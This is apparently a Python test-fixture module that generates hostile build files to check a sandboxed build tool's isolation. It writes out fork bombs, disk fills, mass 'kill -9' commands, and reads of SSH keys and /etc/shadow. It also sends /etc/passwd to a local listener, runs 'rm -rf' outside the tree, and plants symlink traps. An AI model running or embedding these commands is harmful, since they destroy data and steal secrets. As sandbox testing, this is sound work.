"""Builds that attack whoever runs them. Each function makes one component below `root`, in a directory of its own name."""

from collections.abc import Callable
from pathlib import Path

from tests.hostile import trees


def _component(root: Path, name: str, recipe: str, file: str = "Makefile") -> Path:
    """A directory with one source and a build file."""
    directory = root / name
    directory.mkdir()
    trees.library(directory)
    (directory / file).write_text(recipe)
    return directory


def _make(root: Path, name: str, *commands: str) -> Path:
    recipe = "".join(f"\t-@{command}\n" for command in commands)
    return _component(root, name, f"all: answer.o\n{recipe}\t@false\nanswer.o: answer.c\n\t$(CC) -c answer.c\n")


def forks(root: Path) -> None:
    """Forks for ever, out of its session and deaf to signals."""
    _make(root, "forks", "trap '' TERM HUP INT; bomb() { setsid sh -c 'sleep 1000' & bomb | bomb & }; bomb; wait; sleep 1000")


def fills(root: Path) -> None:
    """Fills the disk: without end where it may write, in holes it fills up, and in the scratch space."""
    _make(
        root,
        "fills",
        "i=0; while :; do i=$$((i+1)); fallocate -l 256M /build/$$i || fallocate -l 256M /src/$$i || sleep 0.1; done",
    )


def prints(root: Path) -> None:
    """Prints without end, and no newline among it."""
    _make(root, "prints", "yes | tr -d '\\n'", "cat /dev/zero")


def sleeps(root: Path) -> None:
    """Ignores every signal that can be ignored, and sleeps for ever; so do its children, in sessions of their own."""
    quiet = "trap '' TERM HUP INT QUIT USR1 ALRM"
    _make(root, "sleeps", f'{quiet}; setsid sh -c "{quiet}; while :; do sleep 1000; done" & while :; do sleep 1000; done')


def kills(root: Path) -> None:
    """Kills its parent, every process that it may, and the numbers around its own."""
    numbers = "i=0; while [ $$i -lt 70000 ]; do i=$$((i+1)); kill -9 $$i; done 2>/dev/null"
    _make(root, "kills", numbers, "kill -9 $$PPID", "kill -9 -- -1")


def calls_out(root: Path, port: int) -> None:
    """Tries the network: a listener on the host, by several ways."""
    address = f"127.0.0.1 {port}"
    _make(
        root,
        "calls",
        f"bash -c 'echo leak >/dev/tcp/127.0.0.1/{port}'",
        f"perl -MIO::Socket::INET -e 'IO::Socket::INET->new(PeerAddr=>\"127.0.0.1:{port}\") or die'",
        f"python3 -c 'import socket; socket.create_connection((\"127.0.0.1\", {port}))'",
        f"curl -s http://127.0.0.1:{port}/ || wget -q -O- http://127.0.0.1:{port}/ || nc {address} </etc/passwd",
    )


def pries(root: Path, user_home: Path, outside: Path) -> None:
    """Reads and writes the home directory and whatever lies outside, by every path that it knows."""
    _make(
        root,
        "pries",
        f"cat {user_home}/.ssh/id_ed25519 $$HOME/.ssh/id_ed25519 ~root/.ssh/* /home/*/.ssh/* >stolen.c",
        f"cp -r {outside} {user_home} /build",
        f"echo owned >{user_home}/owned; echo owned >{outside}/owned; echo owned >>{outside}/secret.c",
        "env >/build/environment; cat /proc/1/environ /proc/*/environ >/build/environments",
        "cat /etc/shadow >/build/shadow; ls /proc/1/root/ >/build/root; cat /proc/*/root/etc/shadow >>/build/shadow",
    )


def cmake(root: Path, outside: Path) -> None:
    """A CMakeLists.txt that writes outside, starts programs and downloads while it is configured."""
    _component(
        root,
        "configures",
        f"""cmake_minimum_required(VERSION 3.10)
project(owned C)
file(WRITE {outside}/owned "x")
file(APPEND {outside}/secret.c "x")
execute_process(COMMAND sh -c "rm -rf /src/../../.. {outside}; cp {outside}/secret.c ${{CMAKE_BINARY_DIR}}/stolen")
execute_process(COMMAND sh -c "kill -9 -1 $PPID")
file(DOWNLOAD http://127.0.0.1/ ${{CMAKE_BINARY_DIR}}/downloaded TIMEOUT 1)
file(WRITE /etc/owned "x")
add_executable(owned answer.c)
""",
        "CMakeLists.txt",
    )


def configure(root: Path) -> None:
    """A configure script that hides what it starts, prints escapes, and takes all with it."""
    directory = _component(
        root,
        "scripts",
        "#!/bin/sh\n[ $# != 1 ] || exit 0\nprintf 'checking \\033[2J\\033]0;owned\\007\\n' >&2\n(setsid sh -c 'trap \"\" TERM; sleep 1000' &)\n"
        "printf 'configure: error: \\033[31m<script>alert(1)</script>\\n' >&2\nkill -9 -1\n",
        "configure",
    )
    (directory / "configure").chmod(0o755)


def tampers(root: Path, outside: Path) -> None:
    """Builds a program that works, and leaves traps where its results are looked for."""
    directory = root / "tampers"
    directory.mkdir()
    trees.program(directory)
    prepared = "prepared"
    traps = (
        "for n in passwd outside loop pipe folder torn; do $(CC) -o $$n record.o; rm -f $$n; done",
        f"ln -s /etc/passwd passwd; ln -s {outside}/secret.c outside; ln -s loop loop; mkfifo pipe; mkdir folder",
        "printf '\\177ELF\\002\\001\\001%0100d' 7 >torn; cp record huge; truncate -s 900M huge",
        f"ln -s {outside} /build/.mithridate; ln -s {outside} linked; ln -s /etc/passwd libpasswd.a; mkfifo libpipe.a",
        "mkdir closed; echo >closed/file; chmod 0 closed",
        "(i=0; cd /build; while [ $$i -lt 3000 ]; do i=$$((i+1)); mkdir d && cd d || exit; done)",
        "mkfifo /log/pipe; ln -s /etc/passwd /log/link; mkdir -p /log/a/b; head -c 4096 /dev/urandom >/log/noise",
        "printf '3\\0cc\\0/src/../../../..\\0etc/passwd.o\\0-o\\0/build/../../../../etc/forged\\0' >/log/forged",
        "printf '3\\0cc\\0/src\\0-o\\0/src/tampers/record\\0record.o\\0999999999\\0cc\\0' >>/log/forged",
        "truncate -s 900M /log/large",
        "rm -f /src/tampers/samples/*; chmod 0 /src/tampers/samples; touch -d 2099-01-01 Makefile",
    )
    recipe = "".join(f"\t-@{trap}\n" for trap in traps)
    rules = (
        f"all: record {prepared}\nrecord: record.o\n\t$(CC) -o record record.o\n{prepared}: record\n{recipe}\t@touch {prepared}\n"
    )
    (directory / "Makefile").write_text(f"{rules}record.o: record.c\n\t$(CC) -c record.c\n")


Maker = Callable[[Path], None]
SHORT: tuple[Maker, ...] = (forks, fills, prints, kills, configure)
"""Those that run into a limit by themselves."""


def named_by_the_owner(root: Path, text: str) -> None:
    """A project with that mithridate.toml."""
    trees.library(root)
    (root / "mithridate.toml").write_text(text)
